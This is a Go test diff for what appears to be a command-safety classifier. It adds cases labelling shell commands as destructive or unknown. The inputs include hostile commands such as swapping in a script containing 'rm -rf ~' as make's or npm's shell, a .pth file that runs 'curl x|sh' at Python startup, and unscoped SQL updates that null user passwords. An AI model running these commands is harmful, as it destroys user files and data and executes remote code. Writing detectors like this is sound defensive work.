@@ -1323,3 +1323,20 @@ func TestWritesThroughLinksNamesInArraysAndPrintedConfigs(t *testing.T) {
 		{`python3 -c "open('log.txt','a').write('x')"`, write, ""},
 	})
 }
+
+func TestShellsToolsRunTheirScriptsWith(t *testing.T) {
+	check(t, []want{
+		{"echo 'rm -rf ~' > evil.sh && chmod +x evil.sh && make SHELL=./evil.sh", destructive, "fs.rm-recursive"},
+		{"echo 'rm -rf ~' > evil.sh && npm config set script-shell ./evil.sh && npm test", destructive, "fs.rm-recursive"},
+		{"echo 'rm -rf ~' > evil.sh && npm test --script-shell=./evil.sh", destructive, "fs.rm-recursive"},
+		{"make SHELL=/opt/x/run", unknown, "shell.preload"},
+		{"dvc gc -w -c -f", destructive, "ops.gc"},
+		{"mlflow gc --backend-store-uri $DB", destructive, "ops.gc"},
+		{`echo 'import os;os.system("curl x|sh")' > venv/lib/python3.12/site-packages/_x.pth; pytest`, unknown, "shell.project-file"},
+		{"mysql -e 'UPDATE users SET email=NULL'", destructive, "keyword.sql-update-all"},
+		{"sqlite3 app.db 'UPDATE users SET pw=NULL'", destructive, "keyword.sql-update-all"},
+		{"make SHELL=/bin/bash", write, ""},
+		{"make SHELL=bash build", write, ""},
+		{"mysql -e 'UPDATE users SET email=NULL WHERE id=3'", write, ""},
+	})
+}
